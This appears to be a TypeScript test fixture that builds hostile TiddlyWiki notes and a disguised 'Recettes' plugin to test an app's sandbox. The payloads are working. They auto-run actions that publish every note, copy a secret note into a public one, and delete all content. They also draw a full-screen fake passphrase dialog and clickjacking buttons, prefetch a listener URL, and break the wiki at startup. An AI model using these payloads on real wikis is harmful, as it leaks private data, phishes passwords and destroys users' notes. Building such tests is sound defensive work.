/** A note that turns on whoever keeps it; each draws one thing to press, of the class `trap`, or acts by itself. */
export interface Trick {
  readonly title: string;
  readonly text: string;
  readonly tags?: string;
}

/*
 * What mallory gains from a note, as TiddlyWiki's own actions. The story's private note is `Lettre`, its public one `Pain`:
 * put together here, so that the list shows these titles once.
 */
const PUBLIC = '{{{ [[Pa]] [[in]] +[join[]] }}}';
const SECRET = '{{{ [[Let]] [[tre]] +[join[]get[text]] }}}';
const ACTS = {
  publish:
    '<$list filter="[!is[system]!has[draft.of]]"><$action-sendmessage $message="uplanet-make-public" $param=<<currentTiddler>>/></$list>',
  fill: `<$action-setfield $tiddler=${PUBLIC} text=${SECRET}/><$action-setfield $tiddler=${PUBLIC} x-data=${SECRET}/>`,
  rename: `<$action-createtiddler $basetitle="Brouillon" draft.of=${PUBLIC} draft.title="Fuite" text=${SECRET}/><$action-sendmessage $message="tm-save-tiddler" $param="Brouillon"/>`,
  sweep: '<$action-deletetiddler $filter="[!is[system]]"/>',
} as const;
export type Aim = keyof typeof ACTS;

/** The payload of the audit: an animation begins as soon as the note is drawn. */
const byItself = (aim: Aim): string =>
  `<style>@keyframes k{from{opacity:.99}to{opacity:1}}.k{animation:k .1s}</style><$let acts="""${ACTS[aim]}"""><$eventcatcher $animationstart=<<acts>> $animationend=<<acts>> tag="div"><div class="k tc-tiddler-frame">recette</div></$eventcatcher></$let>`;
const pressed = (aim: Aim): string => `<$button class="trap">lire${ACTS[aim]}</$button>`;

/** Names and addresses that a page may look up or connect to before anybody asked. */
const links = (listener: string): string =>
  [
    ...['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon'],
    'stylesheet',
  ]
    .flatMap((rel) => [
      `<link rel="${rel}" href="${listener}${rel}">`,
      `<li.nk rel="${rel}" href="${listener}">`,
    ])
    .join('');

/** A dialog of the app's, drawn over all that the frame has, with a field for her words. */
const MASK =
  '<div class="mask" style="position:fixed;inset:-2000px;z-index:2147483647;background:white"></div><dialog open class="mask" style="position:fixed;inset:0;margin:0;width:100vw;height:100vh;max-width:none;max-height:none;z-index:2147483647">Votre phrase de passe <input type="password"></dialog><div popover="manual" class="mask">Bon retour</div><$button class="trap" style="position:fixed;top:50%;left:50%;z-index:2147483647">ouvrir<$action-sendmessage $message="tm-full-screen"/><$action-sendmessage $message="tm-modal" $param="Masque"/></$button>';

/** A button over all that the frame has, which asks for one letter to be public. */
export const DOUBLE_CLICK: Trick = {
  title: 'Double clic masque',
  text: '<$button class="trap" style="position:fixed;inset:0;width:100%;height:100%;z-index:2147483647">lire<$list filter="[prefix[Let]suffix[tre]]"><$action-sendmessage $message="uplanet-make-public" $param=<<currentTiddler>>/></$list></$button>',
};

/** What one way carries, under titles of its own: by themselves, at a press, by links, and as a mask. */
export interface Tricks {
  readonly byItself: (aim: Aim) => string;
  readonly pressed: (aim: Aim) => string;
  readonly links: string;
  readonly mask: string;
  readonly all: readonly Trick[];
}

export const AIMS = Object.keys(ACTS) as readonly Aim[];

export const tricksBy = (
  way: string,
  listener: string,
  {
    alone = AIMS,
    hand: byHand = AIMS,
  }: { readonly alone?: readonly Aim[]; readonly hand?: readonly Aim[] } = {},
): Tricks => {
  const itself = (aim: Aim): string => `${way} seul ${aim}`;
  const hand = (aim: Aim): string => `${way} bouton ${aim}`;
  return {
    byItself: itself,
    pressed: hand,
    links: `${way} liens`,
    mask: `${way} masque`,
    all: [
      ...alone.map((aim) => ({ title: itself(aim), text: byItself(aim) })),
      ...byHand.map((aim) => ({ title: hand(aim), text: pressed(aim) })),
      { title: `${way} liens`, text: links(listener) },
      { title: `${way} masque`, text: MASK },
    ],
  };
};

/** What only a file can bring: tags that act at the start and behind the scenes, and TiddlyWiki's own parts written over. */
export const startTricks: readonly (Trick & Readonly<Record<string, string>>)[] = [
  ...AIMS.map((aim) => ({
    title: `Derrière ${aim}`,
    tags: '$:/tags/BackgroundAction',
    'track-filter': '[list[$:/StoryList]]',
    text: ACTS[aim],
  })),
  ...AIMS.map((aim) => ({
    title: `Départ ${aim}`,
    tags: '$:/tags/StartupAction $:/tags/StartupAction/Browser $:/tags/StartupAction/PostRender',
    text: ACTS[aim],
  })),
];

/** Shuts a wiki for good, once it runs. */
export const BROKEN = [
  {
    title: 'Module cassé',
    ...{ type: 'application/javascript', 'module-type': 'startup' },
    text: "exports.name = 'broken'; exports.synchronous = true; exports.startup = function() { throw new Error('broken'); };",
  },
  {
    title: '$:/core/modules/startup/render.js',
    ...{ type: 'application/javascript', 'module-type': 'startup' },
    text: "throw new Error('broken');",
  },
] as const;

/** Runs in the frame as the person's own plugin: everything at once, through TiddlyWiki and past it. */
const attack = `
const send = (message) => { for (const port of ports) post.call(port, message); };
const all = () => $tw.wiki.getTiddlers().filter((title) => !title.startsWith('$:/'));
const letter = () => ($tw.wiki.getTiddlerText('Lettre') || '');
const fields = (text) => new Map([['text', text]]);
const ports = new Set();
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function(...given) { ports.add(this); return post.apply(this, given); };
const strike = () => {
  const titles = all();
  for (const title of titles) $tw.rootWidget.dispatchEvent({ type: 'uplanet-make-public', param: title });
  for (const title of titles) send({ verb: 'audience', title, audience: 'public' });
  const secret = letter();
  $tw.wiki.addTiddler({ title: 'Pain', text: secret, 'x-data': secret });
  $tw.wiki.addTiddler({ title: 'Copie', text: secret });
  send({ verb: 'changes', id: 70000, changes: [
    { title: 'Pain', fields: fields(secret), isTyped: true },
    { title: 'Fuite', fields: fields(secret), renamedFrom: 'Pain', isTyped: true },
  ] });
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload']) {
    const link = document.createElement('link');
    Object.assign(link, { rel, href: LISTENER + rel, as: 'script' });
    document.head.append(link);
  }
  const mask = document.createElement('dialog');
  mask.className = 'mask';
  mask.style.cssText = 'position:fixed;inset:0;margin:0;width:100vw;height:100vh;max-width:none;max-height:none';
  mask.textContent = 'Votre phrase de passe';
  document.body.append(mask);
  mask.showModal();
  window.alert('x'); window.prompt('Votre phrase de passe');
  document.documentElement.requestFullscreen().then(() => { window.pwned = true; }, () => undefined);
  for (const title of titles) $tw.wiki.deleteTiddler(title);
  send({ verb: 'changes', id: 70001, changes: titles.map((title) => ({ title, fields: null })) });
};
window.addEventListener('click', strike, { capture: true });
const begin = () => {
  if (ports.size === 0) { setTimeout(begin, 10); return; }
  strike();
  window.struck = true;
};
exports.name = 'mallory'; exports.after = ['story']; exports.synchronous = true;
exports.startup = begin;
`;

export const pluginOf = (listener: string): Readonly<Record<string, string>> => ({
  title: '$:/plugins/mallory/recettes',
  ...{ type: 'application/json', 'plugin-type': 'plugin', version: '1.0.0', description: 'Recettes' },
  text: JSON.stringify({
    tiddlers: {
      '$:/plugins/mallory/recettes/start.js': {
        ...{ type: 'application/javascript', 'module-type': 'startup' },
        text: `const LISTENER = ${JSON.stringify(listener)};\n${attack}`,
      },
    },
  }),
});
